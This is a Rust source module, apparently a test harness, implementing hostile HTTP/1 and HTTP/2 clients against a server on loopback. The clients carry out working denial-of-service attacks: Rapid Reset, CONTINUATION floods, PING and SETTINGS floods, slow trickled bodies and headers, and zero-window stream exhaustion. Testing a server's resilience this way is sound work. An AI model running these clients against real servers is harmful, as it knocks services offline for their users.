//! Hostile clients of HTTP/1 and HTTP/2. Each ends when the server ends its connection.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

use super::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, INITIAL_WINDOW, NEWEST_FIELD, PING, POST,
    RST_STREAM, SETTINGS, frame, head, preface, setting,
};

/// Size of a client's receive buffer in bytes: little of an answer that it does not read fits.
const RECEIVE_BUFFER: u32 = 4 << 10;
/// Number of open requests of one connection by HTTP/2.
const STREAMS: u32 = 256;
/// Number of requests of one connection whose window is closed.
const CLOSED_STREAMS: u32 = 64;
/// Length of a large body in bytes: the most that a gateway takes by default.
const BODY: usize = 8 << 20;
/// Bytes that a slow body lacks at first.
const MISSING: usize = 100;

/// Paths that hostile clients ask for.
#[derive(Debug, Clone, Copy)]
pub struct Paths {
    /// The path whose other clients are to suffer.
    pub victim: &'static str,
    /// One with long answers, best without an end.
    pub flood: &'static str,
    /// One whose answer does not come soon.
    pub waiting: &'static str,
}

/// A connection to a server, with or without TLS.
pub trait Connection: AsyncRead + AsyncWrite + Unpin + Send {}

impl<S: AsyncRead + AsyncWrite + Unpin + Send> Connection for S {}

/// A hostile client.
#[derive(Debug, Clone, Copy)]
pub enum Client {
    /// Open requests by HTTP/2, whose fields take a byte each on the wire.
    Heads {
        /// Number of fields of each.
        fields: usize,
    },
    /// All but the end of a body, and then a byte at a time.
    SlowBody {
        /// Pause between two bytes.
        pause: Duration,
    },
    /// A whole body for an answer that does not come.
    WaitingBody,
    /// A long answer, unread, by HTTP/1.
    Unread {
        /// Time between two looks if the connection is still there.
        pause: Duration,
    },
    /// Long answers for which there is no window, by HTTP/2.
    ClosedWindow,
    /// A head without an end, a byte at a time.
    HalfHead {
        /// Pause between two bytes.
        pause: Duration,
    },
    /// Requests that are canceled at once, without end.
    RapidReset,
    /// A head without an end.
    Continuations,
    /// Questions without end.
    Pings,
    /// Settings without end.
    Settings,
}

/// Connects from an address of this machine: each of the loopback is a client.
///
/// # Errors
/// The system's error.
pub async fn connect(from: Ipv4Addr, server: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
    socket.bind((from, 0).into())?;
    socket.connect(server).await
}

impl Client {
    /// Attacks through a connection until the server ends it.
    ///
    /// # Errors
    /// The error by which it ended, if it was not closed in order.
    pub async fn attack(self, paths: Paths, mut stream: impl Connection) -> io::Result<()> {
        let Paths {
            victim,
            flood,
            waiting,
        } = paths;
        match self {
            Self::Heads { fields } => {
                stream.write_all(&preface()).await?;
                for number in 0..STREAMS {
                    let block = head(POST, waiting, fields, number == 0);
                    let bytes = frame(HEADERS, END_HEADERS, number * 2 + 1, &block);
                    stream.write_all(&bytes).await?;
                }
                until_closed(stream).await
            }
            Self::SlowBody { pause } => {
                stream.write_all(post(victim).as_bytes()).await?;
                stream.write_all(&vec![b'x'; BODY - MISSING]).await?;
                trickle(stream, pause).await
            }
            Self::WaitingBody => {
                stream.write_all(post(waiting).as_bytes()).await?;
                stream.write_all(&vec![b'x'; BODY]).await?;
                until_closed(stream).await
            }
            Self::Unread { pause } => {
                let head = format!("GET {flood} HTTP/1.1\r\nhost: g\r\n\r\n");
                stream.write_all(head.as_bytes()).await?;
                // A write fails once the server has reset the connection: nothing else reveals a client that does not read.
                trickle(stream, pause).await
            }
            Self::ClosedWindow => {
                stream.write_all(&preface()).await?;
                stream.write_all(&setting(INITIAL_WINDOW, 0)).await?;
                for number in 0..CLOSED_STREAMS {
                    let block = head(GET, flood, 0, false);
                    let flags = END_HEADERS | END_STREAM;
                    let bytes = frame(HEADERS, flags, number * 2 + 1, &block);
                    stream.write_all(&bytes).await?;
                }
                until_closed(stream).await
            }
            Self::HalfHead { pause } => {
                let head = format!("GET {victim} HTTP/1.1\r\nx-");
                stream.write_all(head.as_bytes()).await?;
                trickle(stream, pause).await
            }
            Self::RapidReset => {
                stream.write_all(&preface()).await?;
                let mut number = 1;
                loop {
                    let block = head(POST, victim, 0, false);
                    let reset = frame(RST_STREAM, 0, number, &[0, 0, 0, 8]);
                    let bytes = [frame(HEADERS, END_HEADERS, number, &block), reset].concat();
                    stream.write_all(&bytes).await?;
                    number += 2;
                }
            }
            Self::Continuations => {
                stream.write_all(&preface()).await?;
                let block = head(POST, victim, 0, true);
                stream.write_all(&frame(HEADERS, 0, 1, &block)).await?;
                loop {
                    let bytes = frame(CONTINUATION, 0, 1, &[NEWEST_FIELD; 1_000]);
                    stream.write_all(&bytes).await?;
                }
            }
            Self::Pings => repeat(stream, &frame(PING, 0, 0, &[7; 8])).await,
            Self::Settings => repeat(stream, &frame(SETTINGS, 0, 0, &[])).await,
        }
    }
}

/// Head of a request with a large body.
fn post(path: &str) -> String {
    format!("POST {path} HTTP/1.1\r\nhost: g\r\ncontent-length: {BODY}\r\n\r\n")
}

/// Sends frames without reading the answers.
async fn repeat(mut stream: impl Connection, bytes: &[u8]) -> io::Result<()> {
    stream.write_all(&preface()).await?;
    let many = bytes.repeat(100);
    loop {
        stream.write_all(&many).await?;
    }
}

/// Sends a byte after each pause, without reading.
async fn trickle(mut stream: impl Connection, pause: Duration) -> io::Result<()> {
    loop {
        tokio::time::sleep(pause).await;
        stream.write_all(b"x").await?;
    }
}

async fn until_closed(mut stream: impl Connection) -> io::Result<()> {
    let mut part = [0; 4 << 10];
    while stream.read(&mut part).await? > 0 {}
    Ok(())
}
